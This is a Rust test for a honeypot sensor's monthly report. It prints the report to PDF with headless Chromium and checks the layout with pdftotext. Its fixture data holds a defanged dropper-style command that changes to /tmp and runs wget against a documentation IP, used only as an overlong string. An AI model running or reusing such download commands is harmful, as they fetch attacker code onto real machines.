//! A month's report on paper: Chromium prints the page, poppler reads the PDF. Nothing may stand beyond the paper's edge, no heading alone at the
//! foot of a page and no figure on two. Where one of these programs is not there the test says so and is skipped.

use std::process::Command;

use kizashi_event::Timestamp;
use kizashi_notify::report::{Course, Period, Point, Ranking, Report, Row, Told, Totals};
use kizashi_notify::{Language, Notice};
use kizashi_store::Evidence;

use crate::receivers::{Folder, a_sign};

/// The margin of 16 mm in points.
const MARGIN: f64 = 45.0;

fn report() -> Report {
    let until = Timestamp::parse("2026-11-30T00:00:00Z").unwrap();
    let long = "cd /tmp || cd /var/run || cd /mnt; wget http[:]//198.51.100.9/aVeryLongNameWithoutAnyPlaceToBreakIt".repeat(2);
    let row = |at: usize, key: &str| Row {
        key: if at == 3 { long.clone() } else { key.to_owned() },
        label: "ESET remote administrator".to_owned(),
        events: 1_234_567 / (at as u64 + 1),
        sources: 4_321,
        before: at as u64 * 1_000,
    };
    let ranking = |kind| Ranking { kind, rows: (0..10).map(|at| row(at, "tcp/2223")).collect() };
    let points: Vec<Point> = (0..60_u32)
        .map(|at| Point {
            start: until.plus(-i64::from(60 - at) * 12 * Timestamp::HOUR),
            events: u64::from(at % 7) * 100,
            score: (at > 9).then_some(f64::from(at % 11)),
        })
        .collect();
    let evidence = Evidence {
        commands: vec![(long.clone(), 3)],
        sources: vec![("198.51.100.7".to_owned(), 9)],
        ..Evidence::default()
    };
    let told = |port| {
        let Notice { sign, en, ja, .. } = Notice::of(&a_sign(port), &evidence);
        Told { sign, en, ja }
    };
    Report {
        sensor: "a-sensor".to_owned(),
        period: Period::Month,
        from: until.plus(-Period::Month.micros()),
        until,
        totals: Totals { events: 1_234_567, sessions: 9_876, sources: 321 },
        before: Totals { events: 600_000, sessions: 9_000, sources: 300 },
        signs: [22, 23, 80, 445, 5900, 6379].map(told).into(),
        silent: vec![row(0, "tcp/23")],
        rankings: ["port", "source", "country", "user", "password", "command", "path", "signature"]
            .map(ranking)
            .into(),
        courses: (0..9)
            .map(|at| Course {
                key: format!("tcp/{}", 2_223 + at),
                label: "SMB".to_owned(),
                points: points.clone(),
            })
            .collect(),
        outside: vec![(long.clone(), long)],
    }
}

/// A word on paper: its page with that one's size, its box, itself.
struct Word {
    page: usize,
    paper: (f64, f64),
    left: f64,
    top: f64,
    right: f64,
    bottom: f64,
    text: String,
}

/// The words of a PDF (`pdftotext -bbox`: a line of XHTML each).
fn words(text: &str) -> Vec<Word> {
    let (mut page, mut paper, mut words) = (0, (0.0, 0.0), Vec::new());
    for line in text.lines().map(str::trim) {
        let number = |name: &str| -> f64 {
            let value = line.split(&format!("{name}=\"")).nth(1).unwrap();
            value.split('"').next().unwrap().parse().unwrap()
        };
        if line.starts_with("<page ") {
            (page, paper) = (page + 1, (number("width"), number("height")));
        }
        let Some(rest) = line.strip_prefix("<word ") else { continue };
        let text = rest.split('>').nth(1).unwrap().split('<').next().unwrap().to_owned();
        let (left, top) = (number("xMin"), number("yMin"));
        words.push(Word {
            page,
            paper,
            left,
            top,
            right: number("xMax"),
            bottom: number("yMax"),
            text,
        });
    }
    words
}

fn printed(language: Language) -> Option<Vec<Word>> {
    let folder = Folder::new();
    let (page, pdf) = (folder.0.join("report.html"), folder.0.join("report.pdf"));
    std::fs::write(&page, report().html(language)).unwrap();
    let browser = Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-pdf-header-footer",
        ])
        .arg(format!("--user-data-dir={}", folder.0.join("profile").display()))
        .arg(format!("--print-to-pdf={}", pdf.display()))
        .arg(format!("file://{}", page.display()))
        .output();
    let Ok(browser) = browser else {
        println!("skipped: chromium is not there");
        return None;
    };
    assert!(pdf.exists(), "{}", String::from_utf8_lossy(&browser.stderr));
    let Ok(read) = Command::new("pdftotext").arg("-bbox").args([&pdf]).arg("-").output() else {
        println!("skipped: pdftotext is not there");
        return None;
    };
    if let Some(kept) = std::env::var_os("KIZASHI_KEEP_PDF") {
        std::fs::copy(&pdf, std::path::Path::new(&kept).join(format!("{}.pdf", language.code())))
            .unwrap();
    }
    Some(words(&String::from_utf8_lossy(&read.stdout)))
}

#[test]
fn a_months_report_prints_within_its_paper_in_both_languages() {
    for language in [Language::English, Language::Japanese] {
        let Some(words) = printed(language) else { return };
        let pages = words.iter().map(|word| word.page).max().unwrap_or(0);
        assert!(
            (2..=14).contains(&pages) && words.len() > 500,
            "{pages} pages, {} words",
            words.len()
        );
        for word in &words {
            let Word { left, right, text, page, paper, .. } = word;
            // A font's box reaches beyond its letters, so that of height its middle is looked at.
            let middle = f64::midpoint(word.top, word.bottom);
            let inside = *left >= MARGIN - 1.0
                && *right <= paper.0 - MARGIN + 1.0
                && (MARGIN..paper.1 - MARGIN).contains(&middle);
            assert!(inside, "{text:?} on page {page} at {left}..{right}, {middle}");
        }
        // What follows a heading stands below it on its page: a table's first rows, a drawing, and not only the line that explains it.
        let name = language.pick("courses", "ポートの推移");
        let heading = words.iter().rfind(|word| word.text == name).unwrap();
        let follows =
            |other: &Word| other.page == heading.page && other.top > heading.bottom + 30.0;
        assert!(words.iter().any(follows), "it stands alone at the foot of page {}", heading.page);
        let captions =
            words.iter().filter(|word| word.text.starts_with("tcp/22") && word.text.len() == 8);
        assert!(captions.count() >= 9, "every course has its caption");
    }
}
